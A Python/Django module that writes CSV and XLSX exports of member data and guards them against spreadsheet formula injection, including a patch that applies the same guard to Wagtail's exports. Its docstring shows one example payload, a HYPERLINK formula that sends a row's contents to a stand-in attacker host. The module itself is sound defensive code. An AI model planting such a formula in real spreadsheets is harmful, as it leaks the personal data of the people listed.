"""Every spreadsheet the hub writes, CSV or XLSX, goes through here.

Cells hold text that members typed (names, needs, answers, case titles). A spreadsheet program runs a cell that
starts with = + - @, a tab or a carriage return as a formula (``=HYPERLINK("https://evil.example/?d="&B2)`` sends the
row away when clicked), so such text gets a leading apostrophe, as OWASP advises for CSV injection. Numbers, dates
and booleans keep their type. CSV is UTF-8 with a byte-order mark, so spreadsheet programs read Hangul, Arabic and
Cyrillic names right; XLSX string cells are always stored as strings, never as formulas.
"""

import csv
import datetime
import io
import numbers

from django.http import HttpResponse
from django.utils import timezone
from django.utils.cache import add_never_cache_headers
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TYPED = (bool, numbers.Number, datetime.date, datetime.time, datetime.timedelta)


def neutralise(value):
    """The value as a spreadsheet may safely show it: typed values and None unchanged, anything else as text
    that cannot start a formula."""
    # Plain text first: nearly every cell is, and the ABC check below is the slow part.
    text = value if value.__class__ is str else None
    if text is None:
        if value is None or isinstance(value, TYPED):
            return value
        text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_content(header, rows):
    buffer = io.StringIO()
    buffer.write("\ufeff")
    writer = csv.writer(buffer)
    writer.writerow([neutralise(value) for value in header])
    writer.writerows([neutralise(value) for value in row] for row in rows)
    return buffer.getvalue().encode("utf-8")


def csv_response(header, rows, filename):
    response = HttpResponse(csv_content(header, rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}.csv"'
    add_never_cache_headers(response)  # reports about people: never in a shared cache, whichever view sends them
    return response


def _xlsx_cell(sheet, value):
    value = neutralise(value)
    if isinstance(value, datetime.datetime) and timezone.is_aware(value):
        # Excel has no time zones: the time as the reader's site shows it.
        value = timezone.make_naive(value)
    if isinstance(value, str):
        # Control characters that XML cannot hold would make openpyxl refuse the whole file.
        value = ILLEGAL_CHARACTERS_RE.sub("", value)
    cell = WriteOnlyCell(sheet, value)
    if isinstance(value, str):
        cell.data_type = "s"
    return cell


def xlsx_content(header, rows, sheet_title="Sheet1"):
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=str(sheet_title)[:31])
    sheet.append([_xlsx_cell(sheet, value) for value in header])
    for row in rows:
        sheet.append([_xlsx_cell(sheet, value) for value in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def xlsx_response(header, rows, filename, sheet_title="Sheet1"):
    response = HttpResponse(xlsx_content(header, rows, sheet_title), content_type=XLSX_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}.xlsx"'
    add_never_cache_headers(response)  # lists of people: never in a shared cache, whichever view sends them
    return response


def protect_wagtail_exports():
    """Wagtail's listing and report exports (``list_export`` on our viewsets, its own reports such as site history)
    write their own CSV and XLSX; pass every heading and value through ``neutralise`` as well. Wagtail already
    stores XLSX strings as strings; its CSV does nothing of the kind."""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    if getattr(SpreadsheetExportMixin, "neutralised_by_core_exports", False):
        return
    preprocess_field_value = SpreadsheetExportMixin.preprocess_field_value
    get_heading = SpreadsheetExportMixin.get_heading

    def safe_preprocess_field_value(self, field, value, export_format):
        return neutralise(preprocess_field_value(self, field, value, export_format))

    def safe_get_heading(self, queryset, field):
        return neutralise(get_heading(self, queryset, field))

    SpreadsheetExportMixin.preprocess_field_value = safe_preprocess_field_value
    SpreadsheetExportMixin.get_heading = safe_get_heading
    SpreadsheetExportMixin.neutralised_by_core_exports = True
